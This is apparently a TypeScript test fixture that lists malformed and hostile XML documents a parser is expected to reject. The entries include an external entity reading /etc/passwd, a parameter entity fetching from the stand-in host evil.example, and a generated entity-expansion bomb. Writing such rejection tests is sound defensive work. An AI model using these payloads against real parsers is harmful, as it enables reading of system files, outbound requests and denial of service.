/** Documents that must be refused at once, each with a description. */
export const HOSTILE_XML: readonly (readonly [name: string, xml: string])[] = [
  ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
  ['an external parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><a/>'],
  ['an entity bomb', entityBomb()],
  ['10 million character references', `<a>${'&#65;'.repeat(10_000_000)}</a>`],
  ['two DOCTYPEs', '<!DOCTYPE a SYSTEM "a.dtd"><!DOCTYPE a SYSTEM "b.dtd"><a/>'],
  ['a DOCTYPE inside', '<a><!DOCTYPE a SYSTEM "a.dtd"><!DOCTYPE b></a>'],
  ['an entity declared outside a DOCTYPE', '<!ENTITY x "y"><a/>'],
];

function entityBomb(): string {
  const lines = Array.from({ length: 20 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`);
  return `<!DOCTYPE a [<!ENTITY e0 "ha">${lines.join('')}]><a>&e20;</a>`;
}
